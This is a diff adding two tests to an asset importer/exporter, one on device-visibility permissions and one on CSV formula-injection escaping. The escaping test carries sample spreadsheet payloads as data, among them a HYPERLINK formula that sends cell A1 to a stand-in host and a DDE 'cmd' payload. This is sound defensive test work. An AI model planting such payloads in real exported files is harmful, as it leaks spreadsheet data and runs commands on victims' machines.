@@ -151,6 +151,31 @@ def test_import_runs_as_a_named_user_and_cannot_touch_what_they_cannot_change(fl
     assert Asset.objects.get(key="locked").title == "Changed"
 
 
+def test_an_update_attaches_only_devices_the_user_may_view(fleet, tmp_path):
+    """Issue 13 #6 on the importer's path: a device of the organization the clerk can't see reads
+    like a missing one, linked elsewhere or not; one they can see is attached."""
+    org, truck = fleet
+    mine = make_asset(org, truck, key="mine", custom_fields={"license_plate": "M"})
+    hidden_owner = make_asset(org, truck, key="hidden-owner", custom_fields={"license_plate": "H"})
+    AssetDeviceLink.objects.create(asset=hidden_owner, device=make_device(org, "Linked", "IMEI-LINKED"), field_code="tracker")
+    make_device(org, "Loose", "IMEI-LOOSE")
+    clerk = make_user("clerk")
+    grant(clerk, "change_asset", mine)
+    answers = []
+    for identifier in ("IMEI-LINKED", "IMEI-LOOSE", "IMEI-NONE"):
+        _, err, error = run(HEADER + f"mine,Mine,delivery_truck,M,,{identifier},\n", "--update", "--user", "clerk",
+                            tmp_path=tmp_path)
+        assert error is not None
+        answers.append(err.replace(identifier, "<id>"))
+    assert answers[0] == answers[1] == answers[2]
+    assert "line 2: tracker: no device '<id>' in this organization" in answers[0]
+    assert not AssetDeviceLink.objects.filter(asset=mine).exists()
+    grant(clerk, "view_org_assets", org)  # an organization-wide grant shows its devices
+    _, err, error = run(HEADER + "mine,Mine,delivery_truck,M,,IMEI-LOOSE,\n", "--update", "--user", "clerk", tmp_path=tmp_path)
+    assert error is None, err
+    assert AssetDeviceLink.objects.get(asset=mine).device.identifier == "IMEI-LOOSE"
+
+
 def test_a_concurrent_writer_taking_a_key_ends_the_import_cleanly(fleet, tmp_path):
     """Validation reads the stored keys first; if another writer takes one before the bulk
     INSERT, the unique constraint stops the write and the command says so instead of crashing."""
@@ -287,6 +312,40 @@ def test_continue_on_error_with_a_reference_to_a_failed_row(fleet, tmp_path):
     assert sorted(Asset.objects.values_list("key", flat=True)) == ["tr-4", "tr-5"]
     tr4 = Asset.objects.get(key="tr-4")
     assert Asset.objects.get(key="tr-5").custom_fields["towed_by"] == tr4.pk
+
+
+def test_csv_export_escapes_formula_cells_and_the_import_restores_them(fleet, tmp_path):
+    """Text a spreadsheet would run gets a leading quote in the CSV; numbers stay numbers; the
+    importer strips the quote again, so the export re-imports unchanged."""
+    org, truck = fleet
+    written = {  # value -> its CSV cell
+        '=HYPERLINK("http://evil.example/?"&A1,"open")': '\'=HYPERLINK("http://evil.example/?"&A1,"open")',
+        "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0", "-2+3": "'-2+3", "@SUM(A1)": "'@SUM(A1)",
+        "\tTabbed": "'\tTabbed", "\rReturn": "'\rReturn", "-": "'-",
+        "'=already quoted": "''=already quoted", "'plain quote": "'plain quote", "-12.5": "-12.5",
+    }
+    for n, text in enumerate(written):
+        # Titles are stripped by the services, so leading whitespace goes in the STRING field only.
+        title = f"Asset {n}" if text[0] in "\t\r" else text
+        make_asset(org, truck, title, key=f"f{n}", custom_fields={"license_plate": text, "fuel_capacity_l": 12.5})
+    target = tmp_path / "export.csv"
+    call_command("export_assets", str(target), "--organization", "translog", stdout=io.StringIO())
+    import csv
+
+    with open(target, newline="", encoding="utf-8") as stream:
+        rows = {row["key"]: row for row in csv.DictReader(stream)}
+    for n, (text, cell) in enumerate(written.items()):
+        assert rows[f"f{n}"]["license_plate"] == cell
+        assert rows[f"f{n}"]["title"] == (f"Asset {n}" if text[0] in "\t\r" else cell)
+        assert rows[f"f{n}"]["fuel_capacity_l"] == "12.5"
+    before = list(Asset.objects.order_by("key").values_list("key", "title", "custom_fields", "version"))
+    out, err = io.StringIO(), io.StringIO()
+    try:
+        call_command("import_assets", str(target), "--organization", "translog", "--update", stdout=out, stderr=err)
+    except CommandError as exc:
+        raise AssertionError(err.getvalue()) from exc
+    assert list(Asset.objects.order_by("key").values_list("key", "title", "custom_fields", "version")) == before
+    assert f"0 created, 0 updated, {len(written)} unchanged, 0 failed" in out.getvalue()
 
 
 def test_export_names_no_asset_the_user_may_not_view_and_reimport_keeps_the_reference(fleet, tmp_path):
